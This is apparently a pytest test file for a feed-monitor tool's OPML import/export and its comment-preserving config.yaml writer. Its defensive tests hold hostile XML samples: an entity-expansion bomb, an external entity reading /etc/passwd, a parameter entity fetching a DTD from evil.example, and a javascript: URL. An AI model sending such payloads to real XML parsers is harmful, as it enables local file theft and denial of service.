"""OPML in and out: nested, old, Chinese, broken and hostile files; what is polled already; a config.yaml that keeps its comments."""

from __future__ import annotations

import datetime as dt
import stat
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from monitor import cli
from monitor.config import load_config
from monitor.config.catalogue import shipped_catalogue
from monitor.config.reading import parse_config
from monitor.config.writing import add_sources, as_yaml, source_values
from monitor.errors import InputError
from monitor.opml import Subscription, name_for, read_opml, write_opml
from monitor.subscriptions import as_sources

NOW = dt.datetime(2026, 6, 1, tzinfo=dt.UTC)
NESTED = """<?xml version="1.0" encoding="{coding}"?>
<opml version="1.0"><head><title>订阅</title></head><body>
<outline text="财经">
  <outline text="Some Paper" type="rss" xmlUrl="https://news.example.com/feed.xml" htmlUrl="https://news.example.com/"/>
  <outline text="深一层"><outline title="某报" xmlURL="feed://paper.example.cn/rss?a=1&amp;b=2"/></outline>
  <outline text="又一次" xmlUrl="http://news.example.com/feed.xml/"/>
</outline>
<outline text="旧式" type="rss" url="http://old.example/rdf"/>
<outline text="链接" type="link" url="http://link.example/"/>
<outline text="注释" isComment="true" xmlUrl="http://comment.example/feed"/>
<outline text="脚本" xmlUrl="javascript:alert(1)"/>
<outline text="密码" xmlUrl="https://me:secret@private.example/feed"/>
</body></opml>"""


@pytest.mark.parametrize("coding", ["UTF-8", "GBK", "gb2312", "UTF-16", "iso-8859-1"])
def test_feeds_are_read_wherever_they_stand(coding: str) -> None:
    """Nested folders, spellings of the attribute, old forms and Chinese codings; what is no feed is left out with the reason."""
    text = NESTED.format(coding=coding)
    body = text.encode("ascii", "xmlcharrefreplace") if coding == "iso-8859-1" else text.encode(coding)
    reading = read_opml(body, "list.opml")
    assert [(f.title, f.url, f.folders) for f in reading.feeds] == [
        ("Some Paper", "https://news.example.com/feed.xml", ("财经",)),
        ("某报", "http://paper.example.cn/rss?a=1&b=2", ("财经", "深一层")),
        ("旧式", "http://old.example/rdf", ()),
    ]
    assert [(r.title, r.reason) for r in reading.refused] == [
        ("又一次", "stands twice"), ("脚本", "no http(s) address"), ("密码", "no http(s) address"),
    ]  # fmt: skip


BOMB = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "ha"}">' for n in range(10))
HOSTILE = {
    "a bomb of entities": (f"<!DOCTYPE opml [{BOMB}]><opml><body><outline text='&e9;' xmlUrl='http://a.example'/></body></opml>", "declares the entity"),
    "a file of this machine": (
        "<!DOCTYPE opml [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><opml><body><outline text='&x;'/></body></opml>", "declares the entity",
    ),
    "parameter entities": ("<!DOCTYPE opml [<!ENTITY % p SYSTEM 'http://evil.example/x.dtd'> %p;]><opml/>", "declares the entity"),
    "an ampersand": ('<opml>\n<body><outline xmlUrl="http://a.example/?a=1&b=2"/></body></opml>', "line 2: is no XML"),
    "cut short": ("<opml><body><outline text='a'>", "line 1: is no XML"),
    "another XML": ("<rss version='2.0'/>", "no OPML"),
    "nothing": ("", "is no XML"),
    "a web page": ("<!DOCTYPE html><html><body>404<br></body></html>", "is no XML"),
}  # fmt: skip


@pytest.mark.parametrize("case", HOSTILE)
def test_broken_and_hostile_files_are_one_clear_error(case: str) -> None:
    """No entity is expanded, nothing outside is read, and the line is told."""
    body, words = HOSTILE[case]
    with pytest.raises(InputError, match=words):
        read_opml(body.encode(), "list.opml")


def test_depth_is_no_danger() -> None:
    """A hundred thousand outlines within one another."""
    depth = 100_000
    inner = '<outline text="x" xmlUrl="http://a.example/"/>'
    reading = read_opml(f"<opml><body>{'<outline>' * depth}{inner}{'</outline>' * depth}</body></opml>".encode(), "f")
    assert len(reading.feeds) == 1


@given(st.binary(max_size=300))
def test_no_bytes_break_the_reader(body: bytes) -> None:
    """Whatever comes is a list or an `InputError`."""
    try:
        read_opml(body, "f")
        read_opml(b"<opml>" + body + b"</opml>", "f")
    except InputError:
        pass


_TEXT = st.text(
    st.characters(codec="utf-8", exclude_categories=("Cc", "Cs", "Zs", "Zl", "Zp", "Cn")), min_size=1, max_size=20
)


@given(st.lists(st.tuples(_TEXT, st.integers(0, 999)), max_size=5, unique_by=lambda pair: pair[1]))
def test_what_is_written_is_read_again(feeds: list[tuple[str, int]]) -> None:
    """Titles and addresses with any signs survive."""
    written = [Subscription(title=title, url=f"https://a.example/{n}?x=<&y='\"") for title, n in feeds]
    assert list(read_opml(write_opml(written, title="a < b & c", now=NOW).encode(), "f").feeds) == written


def test_names_are_usable_and_unique() -> None:
    """From a Latin title, else the host; never one that is taken."""
    feeds = [
        ("Some Paper!", "http://a.example/f"),
        ("某报", "https://www.paper.example.cn/f"),
        ("某报", "http://paper.example.cn/g"),
    ]
    taken: list[str] = []
    for title, url in feeds:
        taken.append(name_for(Subscription(title=title, url=url), taken))
    assert taken == ["some-paper", "paper-example-cn", "paper-example-cn-2"]


def test_what_is_polled_already_is_left_out_and_the_catalogue_is_used() -> None:
    """The same feed by http or https, with or without a slash; a feed that ships is picked."""
    (ecns,) = shipped_catalogue().offered("ecns").sources  # type: ignore[union-attr]
    known = parse_config(
        "sources: [{name: mine, kind: feed, url: 'http://a.example/feed/'}]", file="c", base=Path()
    ).sources
    body = write_opml(
        [Subscription(title="甲", url="https://a.example/feed"), Subscription(title="E", url=ecns.addresses[0]),
         Subscription(title="Mine", url="https://b.example/")], title="t", now=NOW,
    )  # fmt: skip
    made = as_sources(read_opml(body.encode(), "f"), known, shipped_catalogue().sources)
    assert [one.get("use") or one["name"] for one in made.sources] == ["ecns", "mine-2"]
    assert [one.reason for one in made.left_out] == ["polled already as mine"]


CONFIGS = {
    "no sources": "timezone: UTC   # zone\n",
    "nothing at all": "",
    "comments all about": "# top\nsources:\n  # first\n  - use: ecns   # English\n    every:   2h\n\n  # - use: nhsa\n\n# below\nalerts: {}\n",
    "dashes at the margin": "sources:\n- use: ecns\n- name: a\n  kind: feed\n  url: 'http://a.example'\n# end\ntimezone: \"UTC\"\n",
    "an empty list": "sources: []\n# tail\n",
    "on one line": "timezone: UTC # zone\nsources: [{use: ecns}]   # few\n",
    "only the key": "sources:\n# none yet\ntimezone: UTC\n",
    "a text with a hash at its end": "sources:\n  - name: a\n    kind: feed\n    url: http://a.example\n    note: |\n      x\n      # no comment\n\n# c\n",
    "Windows": "sources:\r\n  - use: ecns # E\r\ntimezone: UTC\r\n",
}


@pytest.mark.parametrize("case", CONFIGS)
def test_adding_keeps_the_file(case: str) -> None:
    """What was there is there still, comments included, and the new sources are last."""
    text = CONFIGS[case]
    new = [{"name": "n", "title": "甲: # 乙", "kind": "feed", "url": "http://n.example/?a=1&b=2"}]
    made = add_sources(text, new)
    before, after = (parse_config(t, file="c", base=Path()) for t in (text, made))
    assert after.sources[:-1] == before.sources
    assert (after.sources[-1].name, after.sources[-1].title) == ("n", "甲: # 乙")
    assert after.model_copy(update={"sources": ()}) == before.model_copy(update={"sources": ()})
    assert [line for line in text.splitlines() if "#" in line and line.split("#")[1].strip() not in made] == []
    assert ("\r\n" in made) == ("\r\n" in text)
    if "[" not in text:
        kept = iter(made.splitlines())
        assert all(line in kept for line in text.splitlines()), "every line stands as it was, in its order"


def test_the_shipped_configuration_grows_by_the_new_lines_only() -> None:
    """Its comments, blank lines and columns are the same to the byte."""
    text = (Path(__file__).resolve().parents[2] / "config.yaml").read_text(encoding="utf-8")
    made = add_sources(text, [{"name": "n", "kind": "feed", "url": "http://n.example/"}])
    lines = "  - name: n\n    kind: feed\n    url: http://n.example/\n"
    assert lines in made
    assert made.replace(lines, "", 1) == text


def test_every_source_of_the_catalogue_is_exported_in_full() -> None:
    """What `export` writes is read as the same source: nothing is lost between a pick and its full form."""
    offers = shipped_catalogue().sources
    text = f"sources:\n{as_yaml([source_values(one) for one in offers])}"
    for offer, read in zip(offers, parse_config(text, file="c", base=Path()).sources, strict=True):
        assert read.model_copy(update={"entry": offer.entry, "low_rate": offer.low_rate}) == offer


def baoxun(*arguments: object) -> int:
    return cli.run([str(a) for a in arguments])


def test_import_and_export(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    """Printed first, written when told, nothing new the second time; and out again as OPML."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "list.opml").write_text(NESTED.format(coding="UTF-8"), encoding="utf-8")
    (tmp_path / "config.yaml").write_text("sources:\n  - use: ecns # 英文\n", encoding="utf-8")
    (tmp_path / "config.yaml").chmod(0o640)
    before = (tmp_path / "config.yaml").read_text(encoding="utf-8")
    assert baoxun("sources", "import", "list.opml") == 0
    printed = capsys.readouterr().out
    assert len(parse_config(printed, file="c", base=tmp_path).sources) == 3
    assert (tmp_path / "config.yaml").read_text(encoding="utf-8") == before
    assert baoxun("sources", "import", "list.opml", "--write") == 0
    assert [s.name for s in load_config(tmp_path / "config.yaml").sources] == [
        "ecns",
        "some-paper",
        "paper-example-cn",
        "old-example",
    ]
    assert "# 英文" in (tmp_path / "config.yaml").read_text(encoding="utf-8")
    assert stat.S_IMODE((tmp_path / "config.yaml").stat().st_mode) == 0o640
    assert [p.name for p in tmp_path.iterdir() if p.suffix == ".new"] == []
    written = (tmp_path / "config.yaml").read_text(encoding="utf-8")
    assert baoxun("sources", "import", "list.opml", "--write") == 0
    assert (tmp_path / "config.yaml").read_text(encoding="utf-8") == written
    capsys.readouterr()
    assert baoxun("sources", "export", "--opml") == 0
    feeds = read_opml(capsys.readouterr().out.encode(), "f").feeds
    assert [f.url for f in feeds if f.folders != ("english",)] == [
        "https://news.example.com/feed.xml", "http://paper.example.cn/rss?a=1&b=2", "http://old.example/rdf",
    ]  # fmt: skip


def test_import_without_a_configuration_writes_nowhere(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """The packaged file is nobody's to change; the way out is told. A missing file is wrong usage."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "list.opml").write_text(NESTED.format(coding="UTF-8"), encoding="utf-8")
    assert baoxun("sources", "import", "list.opml", "--write") == 2
    assert "--print-default" in capsys.readouterr().err
    assert baoxun("sources", "import", "nowhere.opml") == 2
    (tmp_path / "list.opml").write_text("<rss/>", encoding="utf-8")
    assert baoxun("sources", "import", "list.opml") == 1
    assert "no OPML" in capsys.readouterr().err
